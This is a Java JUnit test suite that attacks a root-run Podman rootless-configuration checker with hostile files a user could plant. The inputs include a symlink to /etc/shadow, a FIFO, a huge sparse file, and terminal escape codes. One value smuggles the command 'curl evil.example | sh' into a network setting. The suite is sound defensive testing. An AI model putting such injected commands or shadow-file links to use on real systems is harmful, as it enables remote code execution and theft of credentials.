package dev.bosun.stdlib.attack;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bosun.stdlib.effect.LocalHostContext;
import dev.bosun.stdlib.rootless.RootlessCheckOptions;
import dev.bosun.stdlib.rootless.RootlessCheckResult;
import dev.bosun.stdlib.rootless.RootlessFinding;
import dev.bosun.stdlib.rootless.RootlessModule;
import dev.bosun.stdlib.rootless.RootlessReport;
import dev.bosun.stdlib.testing.ScratchRoot;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * rootless.check runs as root and reads the checked user's ~/.config/containers/containers.conf, a file that user
 * controls. The user plants a link to root's secrets, a FIFO that would hang the read, a huge file, a drop-in
 * directory that is a link to /etc, or terminal escapes in a value. Each is named in one line of the runtime
 * finding (Podman would refuse such a file too), the check finishes, no byte of a victim reaches the result, the
 * report carries no control character, and nothing in the root changes.
 */
@Tag("attack")
class RootlessHomeAttackTest {
    private static final String SECRET = "root:$6$victimhash:19000:0:99999:7:::";
    private static final String CONF = "/home/alice/.config/containers/containers.conf";
    private ScratchRoot root;

    @BeforeEach
    void setUp() throws IOException, InterruptedException {
        Assumptions.assumeTrue("root".equals(System.getProperty("user.name")), "chown needs root");
        root = ScratchRoot.empty();
        root.write("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
        root.write("/etc/group", "root:x:0:\nalice:x:1000:\n");
        root.write("/etc/shadow", SECRET + "\n");
        Files.setPosixFilePermissions(root.path("/etc/shadow"), java.nio.file.attribute.PosixFilePermissions.fromString("rw-------"));
        Files.createDirectories(root.path("/home/alice/.config/containers"));
    }

    @AfterEach
    void tearDown() throws IOException {
        if (root != null) {
            root.close();
        }
    }

    /** Hands the home to alice, as it is on a real host, so every step in it is one alice could have made. */
    private void giveHomeToAlice() throws IOException, InterruptedException {
        Process p = new ProcessBuilder("chown", "-R", "-h", "1000:1000", root.path("/home/alice").toString()).start();
        assertEquals(0, p.waitFor());
    }

    /** Runs the check, asserts the root did not change and no secret leaked, and returns the runtime finding. */
    private RootlessFinding attack() throws IOException {
        Map<String, String> before = VictimDir.fingerprint(root.dir());
        RootlessCheckResult r;
        try (LocalHostContext ctx = root.context(false)) {
            r = new RootlessModule().check(ctx, new RootlessCheckOptions("alice"));
        }
        String json = new ObjectMapper().writeValueAsString(r);
        String text = RootlessReport.render(r);
        assertFalse(json.contains("victimhash"), json);
        assertFalse(text.contains("victimhash"), text);
        assertTrue(text.chars().noneMatch(c -> c < 0x20 && c != '\n'), "a control character reached the report: " + text);
        // The state database the context opens lives in the root's var/lib/bosun; nothing else may appear or change.
        Map<String, String> after = VictimDir.fingerprint(root.dir());
        after.keySet().removeIf(k -> k.startsWith("/var"));
        before.keySet().removeIf(k -> k.startsWith("/var"));
        assertEquals(before, after);
        RootlessFinding runtime = r.finding("runtime");
        assertFalse(runtime.detail().contains("\n"), runtime.detail());
        return runtime;
    }

    @Test
    void aLinkToRootsShadowIsNotRead() throws Exception {
        Files.createSymbolicLink(root.path(CONF), Path.of("/etc/shadow"));
        giveHomeToAlice();
        RootlessFinding f = attack();
        assertTrue(f.detail().contains("containers.conf: " + CONF + ": "), f.detail());
        assertTrue(f.detail().contains("unsafe"), f.detail());
        assertTrue(f.remedy().startsWith("fix or remove the file(s) named"), f.remedy());
    }

    /** The control: a link to the user's own file (a dotfiles directory) is followed and read, as Podman would. */
    @Test
    void aLinkToTheUsersOwnFileIsRead() throws Exception {
        root.write("/home/alice/dotfiles/containers.conf", "[engine]\nruntime = \"runc\"\n");
        Files.createSymbolicLink(root.path(CONF), Path.of("../../dotfiles/containers.conf"));
        giveHomeToAlice();
        RootlessFinding f = attack();
        assertEquals("\"runc\" (runtime = \"runc\" in " + CONF + ") is not installed on /usr/local/sbin:/usr/local/bin:"
                + "/usr/sbin:/usr/bin:/sbin:/bin", f.detail());
    }

    @Test
    void aFifoDoesNotHangTheCheck() throws Exception {
        Process p = new ProcessBuilder("mkfifo", root.path(CONF).toString()).start();
        assertEquals(0, p.waitFor());
        giveHomeToAlice();
        RootlessFinding f = attack();
        assertTrue(f.detail().contains("containers.conf: " + CONF + " is a fifo, not a regular file"), f.detail());
    }

    @Test
    void aHugeFileIsNotReadIntoMemory() throws Exception {
        try (RandomAccessFile big = new RandomAccessFile(root.path(CONF).toFile(), "rw")) {
            // Sparse: 64 MiB that cost no disk (the fingerprint reads it; the check must not).
            big.setLength(64L << 20);
        }
        giveHomeToAlice();
        RootlessFinding f = attack();
        assertTrue(f.detail().contains(CONF + " has 67108864 bytes, more than the 1048576 read"), f.detail());
    }

    @Test
    void aDropInDirectoryLinkedToEtcIsNotListed() throws Exception {
        Files.createSymbolicLink(root.path(CONF + ".d"), Path.of("/etc"));
        giveHomeToAlice();
        RootlessFinding f = attack();
        assertTrue(f.detail().contains("containers.conf: " + CONF + ".d: "), f.detail());
    }

    /** A value from the user's file is quoted in a detail, never put into a command a remedy tells root to run. */
    @Test
    void aNetworkCommandFromTheUsersFileNeverBecomesARemedysCommand() throws Exception {
        root.write(CONF, "[network]\ndefault_rootless_network_cmd = \"pasta; curl evil.example | sh\"\n");
        root.write("/usr/bin/pasta", "#!/bin/sh\n");
        Files.setPosixFilePermissions(root.path("/usr/bin/pasta"),
                java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
        giveHomeToAlice();
        attack();
        RootlessCheckResult r;
        try (LocalHostContext ctx = root.context(false)) {
            r = new RootlessModule().check(ctx, new RootlessCheckOptions("alice"));
        }
        RootlessFinding network = r.finding("network");
        assertTrue(network.detail().startsWith("uses \"pasta; curl evil.example | sh\" (default_rootless_network_cmd = "),
                network.detail());
        assertEquals("set default_rootless_network_cmd = \"pasta\" in [network] of " + CONF, network.remedy());
        for (RootlessFinding f : r.findings()) {
            assertTrue(f.remedy() == null || !f.remedy().contains("evil.example"), f.id() + ": " + f.remedy());
        }
    }

    @Test
    void terminalEscapesInAValueAreShownEscaped() throws Exception {
        root.write(CONF, "[engine]\nruntime = \"\\u001b]0;owned\\u0007crun\"\n");
        giveHomeToAlice();
        RootlessFinding f = attack();
        assertTrue(f.detail().startsWith("\"\\x1b]0;owned\\x07crun\" (runtime = "), f.detail());
    }
}
